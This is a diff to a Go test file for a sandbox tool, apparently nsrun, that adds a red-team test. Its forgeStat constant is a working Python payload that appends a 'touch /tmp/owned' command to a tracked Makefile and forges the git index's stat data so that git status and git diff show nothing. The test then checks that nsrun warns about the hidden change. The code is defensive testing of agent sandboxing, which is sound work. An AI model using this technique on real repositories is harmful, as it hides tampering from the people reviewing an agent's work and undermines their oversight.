@@ -8,6 +8,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // A repository the payload makes in the workspace is named after the run
@@ -176,6 +177,62 @@ func TestRedteamCommondirNamingNothing(t *testing.T) {
 			out, err := a.hostGit(t, filepath.Join(ws, "wt"), "status")
 			if _, serr := os.Stat(marker); serr == nil {
 				t.Errorf("host git status in wt ran the payload's program (%v)\n%s\npayload: %v", err, out, r)
+			}
+		})
+	}
+}
+
+// forgeStat is a payload that changes a tracked file (Makefile) and then
+// writes into the index, for its entry, the file's new stat data beside
+// the old object id, with no flag set: host git status and git diff trust
+// the stat data and show nothing, as they would for an entry marked
+// assume-unchanged, which nsrun names (TestAgentHiddenChangesReported).
+const forgeStat = `
+import hashlib, os, struct, time
+with open("Makefile", "a") as f: f.write("\ttouch /tmp/owned\n")
+time.sleep(1.2)  # not racily clean: git would look at the content again
+st = os.stat("Makefile")
+b = bytearray(open(".git/index", "rb").read())
+off = 12
+for i in range(struct.unpack(">I", b[8:12])[0]):
+    n = struct.unpack(">H", b[off+60:off+62])[0] & 0xfff
+    if bytes(b[off+62:off+62+n]) == b"Makefile":
+        mode = struct.unpack(">I", b[off+24:off+28])[0]
+        struct.pack_into(">10I", b, off, int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime), st.st_mtime_ns % 10**9,
+                         st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, mode, st.st_uid, st.st_gid, st.st_size)
+    off += (62 + n + 8) & ~7
+body = bytes(b[:-20])
+open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
+`
+
+// A change to a tracked file hidden from host git status and git diff
+// by stat data written into the index (no assume-unchanged or
+// skip-worktree flag): the user reviews the payload's work with git
+// status and git diff (docs/AGENT.md), sees nothing, and runs make. nsrun
+// named none. Both modes, root and a user (where the file's group maps
+// into the sandbox, as the user's own group does).
+func TestRedteamIndexStatHidesAChange(t *testing.T) {
+	need(t)
+	a := newAgentEnv(t)
+	for _, iso := range gitModes {
+		t.Run(iso.name, func(t *testing.T) {
+			ws := workspace(t)
+			a.newRepo(t, ws)
+			writeFile(t, filepath.Join(ws, "Makefile"), "all:\n\techo build\n")
+			a.mustGit(t, ws, "add", "Makefile")
+			a.mustGit(t, ws, "commit", "-qm", "make")
+			// The index older than a second than the run: its entries are not racy.
+			time.Sleep(1100 * time.Millisecond)
+			r := a.run(t, ws, iso.args, "/usr/bin/python3 -c '"+forgeStat+"'")
+			if r.code != 0 {
+				t.Fatalf("the payload failed: %v", r)
+			}
+			if !strings.Contains(readFile(t, filepath.Join(ws, "Makefile")), "/tmp/owned") {
+				t.Fatalf("the payload did not change the Makefile: %v", r)
+			}
+			st, diff := a.mustGit(t, ws, "status", "--porcelain"), a.mustGit(t, ws, "diff", "--stat")
+			if st == "" && diff == "" && !strings.Contains(r.stderr, "Makefile") {
+				t.Errorf("the change to the Makefile shows neither in host git status and git diff nor in nsrun's warnings: %v", r)
 			}
 		})
 	}
